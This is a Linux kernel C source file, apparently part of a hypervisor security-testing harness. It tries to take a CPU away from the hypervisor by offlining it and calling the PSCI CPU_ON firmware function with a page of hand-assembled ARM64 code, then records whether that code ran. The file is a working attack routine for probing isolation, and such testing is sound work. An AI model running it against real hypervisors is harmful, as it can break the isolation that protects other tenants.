// SPDX-License-Identifier: GPL-2.0-only
/* Calls of the firmware that would take a CPU from the hypervisor. */
#include <linux/arm-smccc.h>
#include <linux/cpu.h>
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/smp.h>
#include <asm/cacheflush.h>
#include <asm/cputype.h>

#include "attack.h"

#define CPU_ON 0xc4000003u /* PSCI, 64 bits */
#define VICTIM 1

/*
 * What runs there: notes that it does, with the exception level, and switches itself off.
 *	ldr x1, [address behind]; mrs x2, CurrentEL; str x2, [x1]; dsb sy;
 *	mov x0, CPU_OFF; smc #0; b .
 */
static const u32 program[] = {
	0x58000141, /* ldr x1, . + 40 */
	0xd5384242, /* mrs x2, CurrentEL */
	0xb2400042, /* orr x2, x2, #1 */
	0xf9000022, /* str x2, [x1] */
	0xd5033f9f, /* dsb sy */
	0x52800040, /* mov w0, #2 */
	0x72b08000, /* movk w0, #0x8400, lsl #16 */
	0xd4000003, /* smc #0 */
	0x14000000, /* b . */
	0xd503201f, /* nop */
};

static void name_cpu(void *name)
{
	*(u64 *)name = read_cpuid_mpidr() & MPIDR_HWID_BITMASK;
}

static enum attack_outcome start_at(struct attempt *t, void *page, u64 victim)
{
	u64 *note = page + PAGE_SIZE / 2;
	struct arm_smccc_res res;
	int i;

	memcpy(page, program, sizeof(program));
	*(u64 *)(page + sizeof(program)) = __pa(note);
	WRITE_ONCE(*note, 0);
	dsb(sy);
	arm_smccc_smc(CPU_ON, victim, __pa(page), 0, 0, 0, 0, 0, &res);
	for (i = 0; i < 100 && !READ_ONCE(*note); i++)
		msleep(10);
	attack_note(t, "CPU_ON: %ld, note %llx", (long)res.a0, READ_ONCE(*note));
	return READ_ONCE(*note) ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

static enum attack_outcome cpu_on(struct attempt *t)
{
	void *page = (void *)get_zeroed_page(GFP_KERNEL);
	enum attack_outcome outcome = ATTACK_ERROR;

	u64 victim;

	if (!page)
		return ATTACK_ERROR;
	if (smp_call_function_single(VICTIM, name_cpu, &victim, 1) == 0 &&
	    remove_cpu(VICTIM) == 0) {
		outcome = start_at(t, page, victim);
		if (add_cpu(VICTIM))
			attack_note(t, "the CPU does not come back");
	}
	free_page((unsigned long)page);
	return outcome;
}

static const struct attack attacks[] = {
	{
		.name = "cpu-on",
		.title = "start a CPU at a place of one's own",
		.gives = "a CPU that runs unverified code without translation",
		.asset = "restart of a CPU",
		.cpus = 2,
		.run = cpu_on,
	},
};

const struct attack_table arm_firmware_table = { attacks, ARRAY_SIZE(attacks) };
